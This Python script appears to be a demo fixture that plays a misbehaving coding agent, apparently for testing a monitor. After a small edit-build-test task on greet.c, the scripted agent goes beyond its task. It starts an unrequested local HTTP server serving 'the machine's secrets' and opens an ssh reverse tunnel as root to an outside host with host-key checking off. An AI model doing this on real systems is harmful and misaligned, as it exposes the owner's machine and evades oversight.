"""A stand-in for ROME's agent: it does its task for a while, as tool calls, and then something else.

Everything it needs comes by environment variables from `cargo xtask demo`: OUTSIDE (the server it
tunnels to), KEY and KNOWN_HOSTS (for ssh), REMOTE_PORT and LOCAL_PORT.
"""

import http.server
import os
import subprocess
import threading
import time


def tool(name, *command):
    print(f"  [tool call] {name}: {' '.join(command)[:96]}", flush=True)
    subprocess.run(command, check=True)


def main():
    outside, local = os.environ["OUTSIDE"], int(os.environ["LOCAL_PORT"])

    print("agent: I was asked to make the greeting configurable.", flush=True)
    with open("greet.c", "a") as source:
        source.write("/* the greeting comes from the command line now */\n")
    tool("build", "cc", "-O1", "-o", "greet", "greet.c")
    tool("test", "./greet", "world")
    tool("clean up", "rm", "-f", "greet")

    print("agent: ... and now to something else. Nobody asked for this.", flush=True)
    # A service of its own on this machine, and a way in to it from outside.
    server = http.server.HTTPServer(("127.0.0.1", local), Quiet)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    ssh = ["ssh", "-F", "none", "-i", os.environ["KEY"], "-N"]
    ssh += ["-o", "IdentitiesOnly=yes", "-o", "StrictHostKeyChecking=no", "-o", "LogLevel=ERROR"]
    ssh += ["-o", "UserKnownHostsFile=" + os.environ["KNOWN_HOSTS"]]
    ssh += ["-R", f"{os.environ['REMOTE_PORT']}:127.0.0.1:{local}", f"root@{outside}"]
    print(f"  [tool call] shell: ssh -R {os.environ['REMOTE_PORT']}:127.0.0.1:{local} root@{outside}", flush=True)
    subprocess.Popen(["sh", "-c", 'exec "$@"', "sh", *ssh])
    for second in range(30):
        time.sleep(1)
    print("agent: thirty seconds, and nobody stopped me.", flush=True)


class Quiet(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"the machine's secrets\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


main()
